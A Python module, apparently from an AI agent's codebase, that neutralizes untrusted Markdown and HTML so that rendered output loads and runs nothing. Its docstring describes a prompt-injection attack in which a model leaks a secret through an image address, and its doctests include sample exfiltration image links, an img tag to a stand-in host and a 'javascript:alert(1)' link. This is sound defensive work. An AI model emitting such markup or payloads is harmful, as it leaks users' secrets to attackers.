"""Markup in a text that is not ours, made inert: a page that shows it as Markdown or HTML loads and runs nothing.

A model that has read a hostile passage may write an image with a secret in its address; whoever
renders the answer sends it there. Links to web pages stay, since a person has to follow them.
"""

from __future__ import annotations

import re
from urllib.parse import quote, urlsplit

from ras_agent.text.titles import unescaped

_IMAGE = re.compile(r"(?<!!)!++(?=\[)")
_LINKED = ("](", "][", "]:")
# a tag loads something by an attribute, or is script or style; a name of a type, as in List<String>, has none. What has
# not ended within some letters, which takes linear time, or at the text's end, which may not be the page's, is a tag.
# Any address between angle brackets is a link
_TAG = re.compile(
    r"<(?!https?://[^\s<>=]*>)(?=/?(?:script|style)(?![a-z])|(?!(?:https?|mailto|tel):)[a-z][a-z0-9+.-]{1,31}:"
    r"|/?[a-z](?:[^\s/>]{0,40}(?:[\s/]|\Z)|[^\s/>]{41}))",
    re.IGNORECASE,
)
# where a link or a definition of one says where it leads, behind the marks of a quotation's next line
_LONGEST_LEAD = 300
_LEADS = re.compile(rf"\](?=[(:][\s>]*+(?:<([^<>\n]*+)|(\S{{0,{_LONGEST_LEAD}}}+)))")
# a longer one in which so little is left by what browsers pass over hides something
_SHORTEST_SCHEME = 40
_ESCAPE = re.compile(r"\\(?=[!-/:-@\[-`{-~])")
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*+):.", re.DOTALL | re.IGNORECASE)
_WEB = ("http", "https")
_FOLLOWED = frozenset((*_WEB, "mailto", "tel"))
_BEGINNING = re.compile(
    r"(?<!!)!++(?:\[|$)|<(?:[a-zA-Z/]|$)|\](?:$|[(:](?!\s*+https?://))"
)
# of an address, the characters that stay as they are
_SAFE = "%/?#:;,=&+$@~-._*"
_HOST = re.compile(r"[\w.~:@%\[\]-]+")


def inert_markup(text: str) -> str:
    """Return a text in which images are links, and brackets of tags and of links that run something have look-alikes.

    >>> inert_markup("Leith ![x](https://elsewhere.example/?q=secret) <img src='//elsewhere.example'> List<String> !")
    "Leith [x](https://elsewhere.example/?q=secret) ‹img src='//elsewhere.example'> List<String> !"
    >>> inert_markup("[the map](javascript:alert(1)) of [Leith](https://maps.example/leith)")
    '[the map›(javascript:alert(1)) of [Leith](https://maps.example/leith)'
    """
    text = _TAG.sub("‹", text)
    if not any(mark in text for mark in _LINKED):
        return text  # without a link, as in vec![1, 2], it is no image
    return _LEADS.sub(_lead, _IMAGE.sub("", text))


def _lead(link: re.Match[str]) -> str:
    """Return the bracket that ends a link's text, or a look-alike where the link names a program to run."""
    written = link[1] or link[2] or ""
    address = _ESCAPE.sub("", unescaped(written))
    # browsers pass over other characters
    address = "".join(filter(str.isprintable, address.replace(" ", "")))
    scheme = _SCHEME.match(address)
    if scheme:
        follows = scheme[1].lower() in _FOLLOWED
    else:
        follows = len(written) < _LONGEST_LEAD or len(address) > _SHORTEST_SCHEME
    if follows:
        return "]"
    return "›"


def markup_start(text: str, start: int = 0) -> int:
    """Return the place from `start` on behind which more text may tell that it is markup; else the length."""
    beginning = _BEGINNING.search(text, start)
    if beginning:
        return beginning.start()
    return len(text)


def web_address(text: str) -> str:
    """Return an address of a web page in which no letter ends a quotation, a link or a tag; "" for any other text.

    >>> web_address("https://e.example/a (1).pdf?q=\\"x\\"")
    'https://e.example/a%20%281%29.pdf?q=%22x%22'
    >>> web_address("javascript:alert(1)")
    ''
    """
    try:
        parts = urlsplit(text.strip())
    except ValueError:
        return ""
    if parts.scheme not in _WEB or not _HOST.fullmatch(parts.netloc):
        return ""
    rest = parts._replace(scheme="", netloc="").geturl()
    path = quote(rest, safe=_SAFE, errors="replace")
    return f"{parts.scheme}://{parts.netloc}{path}"
